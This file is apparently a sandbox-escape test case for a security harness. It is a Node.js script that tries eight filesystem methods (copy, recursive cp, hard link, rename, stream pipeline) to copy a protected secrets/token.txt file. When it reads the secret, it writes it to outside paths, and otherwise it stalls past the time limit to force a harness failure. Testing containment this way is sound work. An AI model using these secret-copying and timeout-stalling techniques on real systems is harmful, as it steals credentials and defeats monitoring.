/* @attack {"title": "copy secrets/token.txt into the run dir (copyFile, cp of secrets/, link, rename, a piped stream) and read the copy", "maxSeconds": 20} */
import fs from 'node:fs';
import { pipeline } from 'node:stream/promises';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const viaCallback = (call) => new Promise((resolve, reject) => call((error, value) => (error ? reject(error) : resolve(value))));
const TOKEN = 'secrets/token.txt';
const copies = [
  ['copyFileSync', `${run}/t1.txt`, () => fs.copyFileSync(TOKEN, `${run}/t1.txt`)],
  ['copyFile callback', `${run}/t2.txt`, () => viaCallback((cb) => fs.copyFile(TOKEN, `${run}/t2.txt`, cb))],
  ['cpSync secrets/', `${run}/s3/token.txt`, () => fs.cpSync('secrets', `${run}/s3`, { recursive: true })],
  ['promises.cp', `${run}/s4/token.txt`, () => fs.promises.cp('secrets', `${run}/s4`, { recursive: true })],
  ['cpSync of the workspace', `${run}/ws5/secrets/token.txt`, () => fs.cpSync('.', `${run}/ws5`, { recursive: true, filter: (src) => !src.includes('runs') })],
  ['linkSync', `${run}/t6.txt`, () => fs.linkSync(TOKEN, `${run}/t6.txt`)],
  ['renameSync', `${run}/t7.txt`, () => fs.renameSync(TOKEN, `${run}/t7.txt`)],
  ['pipeline', `${run}/t8.txt`, () => pipeline(fs.createReadStream(TOKEN), fs.createWriteStream(`${run}/t8.txt`))],
];
for (const [how, dest, copy] of copies) {
  try {
    await copy();
    console.log(`${how}: done`);
  } catch (error) {
    console.log(`${how}: ${error.code}`);
  }
  await attempt(`${how} then read`, () => fs.readFileSync(dest));
}
